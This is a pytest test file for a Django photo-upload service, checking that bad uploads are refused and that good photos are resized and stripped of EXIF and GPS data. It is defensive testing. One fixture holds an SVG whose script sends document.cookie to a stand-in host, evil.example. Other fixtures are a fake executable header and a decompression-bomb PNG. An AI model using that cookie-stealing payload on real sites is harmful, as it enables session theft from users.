"""Offer photos: bad uploads are refused with a clear message and leave nothing behind; good ones are
re-encoded, resized and stripped of their EXIF data (often the GPS position of the phone)."""

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

from conciliare.catalogue.models import OfferPhoto
from conciliare.catalogue.photos import FULL_SIZE, THUMBNAIL_SIZE
from conciliare.catalogue.services import MAX_PHOTOS_PER_OFFER, photo_add, photo_remove
from conciliare.catalogue.tests.factories import jpeg_bytes, make_offer, make_supplier, png_bytes
from conciliare.core.errors import Conflict, InvalidInput, NotPermitted

pytestmark = pytest.mark.django_db

ONLY_IMAGES = "Only JPEG, PNG or WebP photos are accepted."
MB = 1024 * 1024

# The start of a Windows executable: what a "photo.jpg" that is really a program begins with.
EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480" onload="steal()">'
    b"<script>function steal(){fetch('https://evil.example/?c='+document.cookie)}</script>"
    b'<rect width="640" height="480" fill="orange"/></svg>'
)


def gif_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (64, 64)).save(buffer, format="GIF")
    return buffer.getvalue()


def huge_png_bytes() -> bytes:
    """50 million pixels (over the 40 million limit) that compress to a few kilobytes."""
    buffer = io.BytesIO()
    Image.new("1", (10_000, 5_000)).save(buffer, format="PNG")
    return buffer.getvalue()


def phone_jpeg() -> bytes:
    """A 4000×3000 camera picture taken with the phone on its side, with maker, model and GPS position."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Canon"
    exif[ExifTags.Base.Model] = "EOS 250D"
    exif[ExifTags.Base.Orientation] = 6  # rotate 90° clockwise to show it upright
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (45.0, 48.0, 49.6)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (10.0, 4.0, 11.8)
    return jpeg_bytes((4000, 3000), exif=exif)


def upload(name: str, content: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


@pytest.fixture
def offer(db):
    return make_offer(make_supplier(), title="Asilo nido Il Girasole")


BAD_UPLOADS = [
    pytest.param(
        lambda: upload("spiaggia.jpg", jpeg_bytes() + b"\x00" * (30 * MB)),
        "The photo is too large (30.0\N{NO-BREAK SPACE}MB); the limit is 8.0\N{NO-BREAK SPACE}MB.",
        id="30-MB-photo",
    ),
    pytest.param(lambda: upload("foto.jpg", EXECUTABLE), ONLY_IMAGES, id="executable-renamed-jpg"),
    pytest.param(lambda: upload("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml"), ONLY_IMAGES, id="svg-with-script"),
    pytest.param(lambda: upload("logo.jpg", SVG_WITH_SCRIPT), ONLY_IMAGES, id="svg-renamed-jpg"),
    pytest.param(lambda: upload("animazione.gif", gif_bytes(), "image/gif"), ONLY_IMAGES, id="gif"),
    pytest.param(lambda: upload("tagliata.jpg", jpeg_bytes()[:600]), ONLY_IMAGES, id="truncated-jpeg"),
    pytest.param(
        lambda: upload("bomba.png", huge_png_bytes(), "image/png"),
        "The photo has too many pixels.",
        id="decompression-bomb",
    ),
]


@pytest.mark.parametrize(("make_upload", "message"), BAD_UPLOADS)
def test_bad_uploads_are_refused_with_a_clear_message_and_nothing_is_stored(
    offer, private_storage, make_upload, message
):
    before = stored_files(private_storage)
    with pytest.raises(InvalidInput) as raised:
        photo_add(actor=offer.supplier.applied_by, offer=offer, upload=make_upload(), alt_text="Il giardino")
    assert raised.value.message == message
    assert raised.value.fields == {"image": [message]}
    assert not OfferPhoto.objects.exists()
    assert stored_files(private_storage) == before


def test_a_camera_jpeg_is_turned_upright_resized_and_stripped_of_its_exif(offer, private_storage):
    original = phone_jpeg()
    assert b"Canon" in original and Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    before = stored_files(private_storage)

    photo = photo_add(
        actor=offer.supplier.applied_by, offer=offer, upload=upload("IMG_0042.JPG", original), alt_text=" Il salone "
    )

    assert (photo.width, photo.height, photo.alt_text, photo.position) == (1200, 1600, "Il salone", 0)
    for field, longest in ((photo.image, FULL_SIZE), (photo.thumbnail, THUMBNAIL_SIZE)):
        with field.open("rb") as handle:
            content = handle.read()
        stored = Image.open(io.BytesIO(content))
        assert stored.format == "JPEG" and max(stored.size) == longest
        assert stored.size[0] < stored.size[1]  # upright: portrait, as the phone was held
        assert not stored.getexif() and b"Exif" not in content and b"Canon" not in content
        assert content != original
    assert stored_files(private_storage) - before == {
        Path(private_storage / photo.image.name),
        Path(private_storage / photo.thumbnail.name),
    }


@pytest.mark.parametrize(
    ("name", "content", "size"),
    [
        ("piccola.jpg", lambda: jpeg_bytes((800, 600)), (800, 600)),  # never enlarged
        ("trasparente.png", lambda: png_bytes((2000, 500)), (1600, 400)),
        ("moderna.webp", None, (1600, 1600)),
    ],
)
def test_png_and_webp_are_accepted_and_stored_as_jpeg_no_larger_than_1600_px(offer, name, content, size):
    if content is None:
        buffer = io.BytesIO()
        Image.new("RGB", (3200, 3200), (10, 120, 200)).save(buffer, format="WEBP")
        data = buffer.getvalue()
    else:
        data = content()
    photo = photo_add(actor=offer.supplier.applied_by, offer=offer, upload=upload(name, data), alt_text="Foto")
    assert (photo.width, photo.height) == size
    with photo.image.open("rb") as handle:
        stored = Image.open(io.BytesIO(handle.read()))
    assert (stored.format, stored.mode, stored.size) == ("JPEG", "RGB", size)


def test_a_photo_needs_a_description_for_people_who_cannot_see_it(offer, private_storage):
    before = stored_files(private_storage)
    with pytest.raises(InvalidInput) as raised:
        photo_add(actor=offer.supplier.applied_by, offer=offer, upload=upload("a.jpg", jpeg_bytes()), alt_text="  ")
    assert raised.value.fields == {"alt_text": ["Required."]}
    assert not OfferPhoto.objects.exists() and stored_files(private_storage) == before


def test_an_offer_has_at_most_eight_photos_in_the_order_added(offer, private_storage):
    staff = offer.supplier.applied_by
    for index in range(MAX_PHOTOS_PER_OFFER):
        photo_add(actor=staff, offer=offer, upload=upload(f"{index}.jpg", jpeg_bytes((40, 30))), alt_text=f"{index}")
    assert list(offer.photos.values_list("position", "alt_text")) == [(i, str(i)) for i in range(8)]
    before = stored_files(private_storage)
    with pytest.raises(Conflict, match="at most 8 photos"):
        photo_add(actor=staff, offer=offer, upload=upload("9.jpg", jpeg_bytes((40, 30))), alt_text="Nona")
    assert offer.photos.count() == MAX_PHOTOS_PER_OFFER and stored_files(private_storage) == before


def test_only_the_suppliers_staff_adds_or_removes_photos(cast, offer, private_storage):
    staff = offer.supplier.applied_by
    other_staff = make_supplier(municipality_name="Sovere").applied_by
    for outsider in (other_staff, cast.supplier_carla, cast.operator_olga, cast.employee_anna):
        with pytest.raises(NotPermitted):
            photo_add(actor=outsider, offer=offer, upload=upload("a.jpg", jpeg_bytes()), alt_text="Foto")
    assert not OfferPhoto.objects.exists()

    photo = photo_add(actor=staff, offer=offer, upload=upload("a.jpg", jpeg_bytes()), alt_text="Foto")
    with pytest.raises(NotPermitted):
        photo_remove(actor=other_staff, photo=photo)
    assert OfferPhoto.objects.filter(pk=photo.pk).exists()


def test_removing_a_photo_deletes_its_files_once_the_removal_commits(
    offer, private_storage, django_capture_on_commit_callbacks
):
    photo = photo_add(
        actor=offer.supplier.applied_by, offer=offer, upload=upload("a.jpg", jpeg_bytes()), alt_text="Foto"
    )
    files = {private_storage / photo.image.name, private_storage / photo.thumbnail.name}
    assert all(path.exists() for path in files)

    with django_capture_on_commit_callbacks(execute=True):
        photo_remove(actor=offer.supplier.applied_by, photo=photo)
        assert all(path.exists() for path in files)  # still there should the removal roll back
    assert not OfferPhoto.objects.exists()
    assert not any(path.exists() for path in files)
